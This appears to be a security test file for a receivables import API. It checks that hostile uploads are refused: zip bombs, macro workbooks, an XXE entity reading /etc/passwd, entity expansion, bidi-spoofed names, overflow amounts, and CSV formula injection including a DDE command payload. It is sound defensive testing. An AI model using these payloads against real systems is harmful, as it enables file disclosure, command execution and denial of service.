import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type TestApp, testApp } from '../app.ts'
import { send } from '../books.ts'
import { call } from '../call.ts'
import { type Organisation, organisation, type Person, person } from '../given.ts'
import { row, workbook, zip } from '../workbook.ts'

// Files that mean harm, at both doors for imports: refused with a sentence that says what to do, nothing of them in the
// books, and everybody else answered meanwhile.

let t: TestApp
let org: Organisation
let operations: Person
beforeAll(async () => {
  t = await testApp()
  org = await organisation(t)
  operations = await person(t, { in: org, roles: ['Operations'] })
})
afterAll(() => t.close())

const header =
  'operating_unit,customer_name,customer_id,invoice_number,invoice_date,due_date,invoice_amount,currency,payment_status'
const line = (number: string, amount = '100.00', name = 'Acme') =>
  `North,${name},C1,${number},2026-05-01,2026-05-31,${amount},USD,Overdue`
const csv = (...lines: string[]) => `${[header, ...lines].join('\n')}\n`
const cells = (text: string) => text.split(',')
const sound = row(1, ...cells(header)) + row(2, ...cells(line('A1')))
const sheet = (content: string | Buffer) =>
  workbook({ sheets: [{ rows: '' }], parts: { 'xl/worksheets/sheet1.xml': content } })
const filled = (size: number, text: string) => Buffer.alloc(size, text)

/** The old format and locked workbooks come in this container; the stream it names says which of the two. */
function container(stream: string): Buffer {
  const bytes = Buffer.alloc(2048)
  bytes.write('d0cf11e0a1b11ae1', 0, 'hex')
  bytes.writeUInt16LE(9, 30)
  bytes.writeUInt32LE(1, 48)
  bytes.write(stream, 1024 + 128, 'utf16le')
  return bytes
}

/** A text that a workbook holds once, and rows whose cells all refer to it: a few bytes each. */
const long = `<si><t>${'a'.repeat(120_000)}</t></si>`
const sharing = (at: number, count: number) => `<row r="${at}">${'<c t="s"><v>0</v></c>'.repeat(count)}</row>`

type Hostile = [what: string, name: string, content: () => Buffer | string, detail: RegExp]
const files: Hostile[] = [
  [
    'a zip bomb',
    'ar.xlsx',
    () =>
      sheet(
        Buffer.concat([
          Buffer.from('<worksheet><sheetData>'),
          filled(60_000_000, ' '),
          Buffer.from('</sheetData></worksheet>'),
        ]),
      ),
    /packed|too large/,
  ],
  [
    'a bomb that declares itself small',
    'ar.xlsx',
    () =>
      zip([
        {
          name: '_rels/.rels',
          content:
            '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        },
        { name: 'xl/workbook.xml', content: filled(60_000_000, ' '), size: 500 },
      ]),
    /not what the file says|packed|damaged/,
  ],
  [
    'a zip of zips',
    'ar.xlsx',
    () => zip([{ name: 'inner.zip', content: zip([{ name: 'bomb', content: filled(20_000_000, '0') }]) }]),
    /zip file, not a workbook/,
  ],
  [
    'a sheet of twenty million rows',
    'ar.xlsx',
    () =>
      sheet(
        Buffer.concat([
          Buffer.from('<worksheet><sheetData>'),
          filled(20_000_000 * 6, '<row/>'),
          Buffer.from('</sheetData></worksheet>'),
        ]),
      ),
    /packed|too large|more rows/,
  ],
  [
    'a workbook with macros',
    'ar.xlsm',
    () => workbook({ sheets: [{ rows: sound }], parts: { 'xl/vbaProject.bin': 'x' } }),
    /macros.*save it as \.xlsx/,
  ],
  ['a workbook behind a password', 'ar.xlsx', () => container('EncryptionInfo'), /password/],
  ['an old workbook under a new name', 'ar.xlsx', () => container('Workbook'), /\.xls\b.*[Ss]ave/],
  [
    'a PDF under the name of a text',
    'ar.csv',
    () => `%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${'x'.repeat(5000)}\n%%EOF`,
    /PDF/,
  ],
  ['NUL characters', 'ar.csv', () => csv(line('A\u00001')), /NUL/],
  [
    'a hundred thousand columns',
    'ar.csv',
    () => `${header}${',x'.repeat(100_000)}\n${line('A1')}${',1'.repeat(100_000)}\n`,
    /columns/,
  ],
  ['a quote that is never closed', 'ar.csv', () => csv(line('A1'), `North,"Acme,C1,A2`), /quote/],
  [
    'XML with a document type',
    'ar.xlsx',
    () =>
      sheet(
        `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData>${sound}</sheetData></worksheet>`,
      ),
    /document type/,
  ],
  [
    'entities of entities',
    'ar.xlsx',
    () =>
      sheet(
        `<worksheet><sheetData>${row(1, ...cells(header))}<row><c t="str"><v>&lol9;</v></c></row></sheetData></worksheet>`,
      ),
    /lol9/,
  ],
  [
    'one text in every cell of a row',
    'ar.xlsx',
    () => workbook({ sheets: [{ rows: sound + sharing(3, 300) }], texts: long }),
    /Row 3 of the sheet holds more than \d+ characters/,
  ],
  [
    'one text in every name of the header',
    'ar.xlsx',
    () => workbook({ sheets: [{ rows: sharing(1, 2) + sharing(2, 2) }], texts: long.replaceAll('a', 'ab ') }),
    /more than \d+ characters|names of the columns/,
  ],
  ['blank rows only', 'ar.csv', () => '\n\n,,,,\n\n   \n', /empty|no row|Correct the header/i],
]

const meanwhile = () =>
  Promise.all([
    call(t, 'GET /healthz'),
    call(t, 'GET /api/receivables/ageing', { as: operations }),
    call(t, 'GET /api/receivables/invoices', { as: operations }),
  ])
const nothingInTheBooks = async () => {
  expect((await call(t, 'GET /api/receivables/invoices', { as: operations })).body.total).toBe(0)
  expect((await call(t, 'GET /api/imports?status=published', { as: operations })).body.total).toBe(0)
}

describe('files that are no table of receivables', () => {
  afterEach(nothingInTheBooks)
  test.each(files)('%s', async (_what, name, content, detail) => {
    const bytes = content()
    const [atOnce, others] = await Promise.all([send(t, operations, bytes, {}, { name }), meanwhile()])
    expect([400, 413], JSON.stringify(atOnce.body)).toContain(atOnce.status)
    expect(JSON.stringify(atOnce.body.detail)).toMatch(detail)
    expect(others.map(({ status }) => status)).toEqual([200, 200, 200])

    const stepwise = await send(t, operations, bytes, {}, { name, url: '/api/imports' })
    if (stepwise.status === 201) {
      expect(['refused', 'asking']).toContain(stepwise.body.status)
      expect(stepwise.body.problem).toMatch(stepwise.body.status === 'asking' ? /column/i : detail)
      const published = await call(t, `POST /api/imports/${stepwise.body.id}/publish`, { as: operations })
      expect(published.status).toBe(409)
    } else expect([400, 413]).toContain(stepwise.status)
  })
})

describe('rows that mean harm', () => {
  afterEach(nothingInTheBooks)
  test.each([
    ['1e309'],
    ['1e400'],
    ['NaN'],
    ['Infinity'],
    ['-Infinity'],
    ['9999999999999999999'],
    ['0x7fffffff'],
    ['1'.repeat(300)],
  ])('the amount %s is refused', async (amount) => {
    const answer = await send(t, operations, csv(line('A1', amount)))
    expect(answer).toMatchObject({
      status: 200,
      body: { status: 'refused', processed_count: 0, error_count: 1 },
    })
    expect(answer.body.rejects).toEqual([
      expect.objectContaining({ row: 2, column: 'invoice_amount', reason: expect.stringMatching(/\w+.*\./) }),
    ])
    const { body } = await send(t, operations, csv(line('A1', amount)), {}, { url: '/api/imports' })
    expect(body).toMatchObject({ rejected: 1, new: 0, problem: 'No row of this file can be taken.' })
  })

  test('letters that turn the direction of reading, and control characters', async () => {
    for (const character of ['\u202e', '\u2066', '\u0007', '\u001b']) {
      const { body } = await send(t, operations, csv(line('A1', '5.00', `Acme${character}fdp.exe`)))
      expect(body).toMatchObject({ status: 'refused', error_count: 1 })
      expect(body.rejects[0].reason).toMatch(/U\+/)
    }
  })

  test('a cell of a megabyte', async () => {
    const { status, body } = await send(t, operations, csv(line('A1', '5.00', 'x'.repeat(1_000_000))))
    expect([200, 400, 413]).toContain(status)
    if (status === 200) expect(body).toMatchObject({ status: 'refused', error_count: 1 })
    expect(JSON.stringify(body).length).toBeLessThan(20_000)
  })

  test('a header alone, with whatever blank rows after it', async () => {
    for (const content of [csv(), `${csv()}\n,,,,,,,,\n\n`]) {
      const { body } = await send(t, operations, content)
      expect(body).toMatchObject({ status: 'refused', processed_count: 0, rows: 0 })
    }
  })
})

describe('what looks like harm and is text', () => {
  test('UTF-16 without a mark at its beginning is read, or refused with a reason', async () => {
    const office = await person(t, { in: await organisation(t), roles: ['Operations'] })
    const { status, body } = await send(t, office, Buffer.from(csv(line('A1')), 'utf16le'))
    if (status === 200) expect(body).toMatchObject({ status: 'published', new: 1 })
    else {
      expect(status).toBe(400)
      expect(body.detail).toMatch(/UTF-/)
    }
  })

  test('of a formula its last value is read, never the formula', async () => {
    const office = await person(t, { in: await organisation(t), roles: ['Operations'] })
    const values = cells(line('A1'))
    const formula = `<row r="2">${values
      .map(
        (value, at) =>
          `<c r="${String.fromCharCode(65 + at)}2" t="str"><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>${value}</v></c>`,
      )
      .join('')}</row>`
    const { body } = await send(
      t,
      office,
      workbook(row(1, ...cells(header)) + formula),
      {},
      { name: 'ar.xlsx' },
    )
    expect(body).toMatchObject({ status: 'published', new: 1 })
    const { items } = (await call(t, 'GET /api/receivables/invoices', { as: office })).body
    expect(items).toMatchObject([{ invoice_number: 'A1', customer_name: 'Acme', amount: 100 }])
  })

  test('a number that is a formula stays text or is refused, and leaves guarded', async () => {
    const office = await person(t, { in: await organisation(t), roles: ['Operations'] })
    const command = `=cmd|' /C calc'!A0`
    const { body } = await send(
      t,
      office,
      csv(line(command), line('@SUM(A2)'), line('@SUM(A1)', 'x', '-2+3')),
    )
    expect(body).toMatchObject({ status: 'published', new: 1, rejected: 2 })
    expect(body.rejects[0]).toMatchObject({
      row: 2,
      value: command,
      reason: expect.stringMatching(/formula/),
    })
    const { items } = (await call(t, 'GET /api/receivables/invoices', { as: office })).body
    expect(items).toMatchObject([{ invoice_number: '@SUM(A2)' }])
    for (const path of [
      '/api/receivables/invoices/export?format=csv',
      `/api/imports/${body.import_id}/rejected?format=csv`,
    ] as const) {
      const file = (await call(t, `GET ${path}`, { as: office })).raw.body
      const starts = file
        .split(/\r?\n/)
        .flatMap((each) => each.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        .map((cell) => cell.replace(/^"/, ''))
      expect(starts.filter((cell) => /^[=+@\t]|^-(?!\d)/.test(cell) || cell.startsWith('-2+3'))).toEqual([])
      expect(file).toMatch(/SUM\(A[12]\)/)
    }
  })
})
